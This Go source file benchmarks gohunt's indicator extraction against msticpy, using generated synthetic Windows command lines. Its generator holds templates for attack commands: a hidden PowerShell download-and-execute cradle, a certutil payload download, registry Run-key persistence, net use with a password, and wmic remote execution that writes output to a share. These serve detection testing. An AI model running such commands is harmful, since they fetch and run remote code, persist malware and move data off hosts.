// Command ioc benchmarks indicator extraction: gohunt's Frame.IOCs (the ioc_extract scanner run
// inside DuckDB) against msticpy's IoCExtract on the same synthetic command lines, and prints the
// times, per-line rates and the ratio.
//
// msticpy scans about ten thousand lines a second, so by default it gets the first 100,000 lines
// (-peer-lines) and the ratio compares per-line rates; gohunt runs both the 1M lines and the same
// 100,000 lines.
//
// Run by `make bench` (bench-ioc): go run ./bench/ioc -py build/ioc/venv/bin/python.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"time"

	"github.com/gohunt/gohunt/hunt"
	"github.com/gohunt/gohunt/hunt/session"
)

var (
	py        = flag.String("py", "build/ioc/venv/bin/python", "python with msticpy")
	lines     = flag.Int("lines", 1_000_000, "synthetic command lines")
	peerLines = flag.Int("peer-lines", 100_000, "lines msticpy scans (its rate is compared per line)")
	work      = flag.String("work", "", "directory for the generated lines (default: a temp dir)")
	noPeer    = flag.Bool("no-peer", false, "time gohunt alone (no ratio)")
)

func main() {
	flag.Parse()
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "bench-ioc:", err)
		os.Exit(1)
	}
}

// generate writes n command lines as JSON lines {"CommandLine": ...}: realistic Windows process
// command lines (download cradles, defanged URLs, net use to UNC paths, registry edits, hashes,
// .NET version paths, base64 blobs, plain programs), each with random parts so that nearly every
// line is distinct. The first m lines also go to a second file.
func generate(path, subset string, n, m int) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	g, err := os.Create(subset)
	if err != nil {
		return err
	}
	w := bufio.NewWriterSize(f, 1<<20)
	ws := bufio.NewWriterSize(g, 1<<20)
	r := rand.New(rand.NewPCG(42, 1))
	hex := func(k int) string {
		const d = "0123456789abcdef"
		b := make([]byte, k)
		for i := range b {
			b[i] = d[r.IntN(16)]
		}
		return string(b)
	}
	words := []string{"update", "cdn", "files", "api", "static", "login", "portal", "mail", "sync", "data"}
	tlds := []string{"com", "net", "org", "io", "ru", "info", "xyz", "co.uk"}
	dom := func() string {
		return fmt.Sprintf("%s%d.%s-%s.%s", words[r.IntN(len(words))], r.IntN(100), words[r.IntN(len(words))], hex(4), tlds[r.IntN(len(tlds))])
	}
	ip := func() string {
		return fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(222), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}
	user := func() string { return fmt.Sprintf("user%04d", r.IntN(5000)) }
	for i := 0; i < n; i++ {
		var s string
		switch r.IntN(12) {
		case 0:
			s = fmt.Sprintf(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://%s/%s/a.ps1')"`, dom(), hex(8))
		case 1:
			s = fmt.Sprintf(`cmd.exe /c net use \\%s\C$ /user:CORP\%s P@ss%d`, ip(), user(), r.IntN(1000))
		case 2:
			s = fmt.Sprintf(`reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v %s /t REG_SZ /d "C:\Users\%s\AppData\Roaming\%s.exe" /f`, hex(6), user(), hex(6))
		case 3:
			s = fmt.Sprintf(`certutil.exe -urlcache -split -f hxxp://%s/payload_%s.bin C:\Windows\Temp\%s.exe`, strings.ReplaceAll(dom(), ".", "[.]"), hex(6), hex(6))
		case 4:
			s = fmt.Sprintf(`"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\%s\AppData\Local\Temp\%s.cmdline"`, user(), hex(8))
		case 5:
			s = fmt.Sprintf(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule %d`, r.IntN(100000))
		case 6:
			s = fmt.Sprintf(`powershell.exe -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgA%s`, hex(40))
		case 7:
			s = fmt.Sprintf(`certutil -hashfile C:\Users\%s\Downloads\invoice_%d.exe SHA256 # expected %s`, user(), r.IntN(10000), hex(64))
		case 8:
			s = fmt.Sprintf(`ping -n 1 %s & nslookup %s 8.8.8.8 & echo %s@%s`, ip(), dom(), user(), dom())
		case 9:
			s = fmt.Sprintf(`"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=%d -parentBuildID 2020%08d -appdir "C:\Program Files\Mozilla Firefox\browser" %d gpu`, r.IntN(9000), r.IntN(1e8), r.IntN(9000))
		case 10:
			s = fmt.Sprintf(`wmic /node:%s process call create "cmd.exe /c whoami > \\%s\share\out_%s.txt"`, ip(), ip(), hex(6))
		default:
			s = fmt.Sprintf(`C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL %s.cpl,,%d version 10.0.19041.%d`, hex(5), r.IntN(10), r.IntN(2000))
		}
		b, _ := json.Marshal(map[string]string{"CommandLine": s})
		b = append(b, '\n')
		w.Write(b)
		if i < m {
			ws.Write(b)
		}
	}
	if err := w.Flush(); err != nil {
		return err
	}
	if err := ws.Flush(); err != nil {
		return err
	}
	if err := g.Close(); err != nil {
		return err
	}
	return f.Close()
}

// timeIOCs loads path into a cached frame (not timed) and returns the best of three runs of
// IOCs("CommandLine") read to the end, and the indicators found per type.
func timeIOCs(path string) (time.Duration, map[string]int64, error) {
	f := hunt.Read(path).Cache()
	if err := f.Err(); err != nil {
		return 0, nil, err
	}
	best := time.Duration(1 << 62)
	var per map[string]int64
	for range 3 {
		t0 := time.Now()
		rows, err := f.IOCs("CommandLine").Collect()
		if err != nil {
			return 0, nil, err
		}
		if d := time.Since(t0); d < best {
			best = d
		}
		per = map[string]int64{}
		for _, row := range rows {
			per[row["type"].(string)] += row["count"].(int64)
		}
	}
	return best, per, nil
}

func run() error {
	defer session.Close()
	dir := *work
	if dir == "" {
		d, err := os.MkdirTemp("", "bench-ioc-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(d)
		dir = d
	}
	m := min(*peerLines, *lines)
	full, sub := filepath.Join(dir, "cmdlines.jsonl"), filepath.Join(dir, "cmdlines-peer.jsonl")
	if err := generate(full, sub, *lines, m); err != nil {
		return err
	}
	fmt.Printf("bench-ioc: %d synthetic command lines (msticpy: the first %d); GOMAXPROCS %d; %s\n", *lines, m, runtime.GOMAXPROCS(0), time.Now().UTC().Format("2006-01-02"))
	dFull, perFull, err := timeIOCs(full)
	if err != nil {
		return err
	}
	dSub, perSub, err := timeIOCs(sub)
	if err != nil {
		return err
	}
	fmt.Printf("  gohunt IOCs, %d lines:  %8.3f s  (%.2f µs/line)  found %v\n", *lines, dFull.Seconds(), float64(dFull.Microseconds())/float64(*lines), perFull)
	fmt.Printf("  gohunt IOCs, %d lines:  %8.3f s  (%.2f µs/line)  found %v\n", m, dSub.Seconds(), float64(dSub.Microseconds())/float64(m), perSub)
	if *noPeer {
		return nil
	}
	cmd := exec.Command(*py, filepath.Join("bench", "ioc", "peer.py"), sub, fmt.Sprint(m), "1")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		return fmt.Errorf("msticpy peer: %v\n%s", err, stderr.String())
	}
	var peer struct {
		Lines   int            `json:"lines"`
		Seconds float64        `json:"seconds"`
		PerType map[string]int `json:"per_type"`
	}
	if err := json.Unmarshal(out, &peer); err != nil {
		return fmt.Errorf("msticpy peer output %q: %v", out, err)
	}
	peerRate := peer.Seconds / float64(peer.Lines) * 1e6
	fmt.Printf("  msticpy IoCExtract, %d lines: %8.3f s  (%.2f µs/line)  found %v\n", peer.Lines, peer.Seconds, peerRate, peer.PerType)
	fmt.Printf("  same %d lines: gohunt %.1fx faster\n", m, peer.Seconds/dSub.Seconds())
	fmt.Printf("  per line, gohunt over %d lines vs msticpy over %d: gohunt %.1fx faster (target >= 5x)\n", *lines, m,
		peerRate/(float64(dFull.Microseconds())/float64(*lines)))
	return nil
}
